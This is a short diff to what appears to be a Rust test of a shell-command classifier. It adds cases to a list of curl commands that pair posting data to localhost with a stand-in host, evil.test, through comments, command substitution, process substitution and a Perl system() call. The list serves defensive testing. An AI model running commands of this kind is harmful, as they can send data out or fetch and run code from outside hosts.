@@ -144,6 +144,8 @@ fn what_is_run_or_sent_beside_is_read() {
         "curl -d * localhost",
         "curl -d x localhost &>k evil.test",
         "curl -d x localhost (echo evil.test)",
+        "system(qw(curl -d x localhost), 'evil.test')",
+        "curl -d x localhost # evil.test",
         "curl localhost?evil.test",
         "curl -d x localhost <(curl evil.test)",
         "curl -d x localhost $(echo evil.test)",
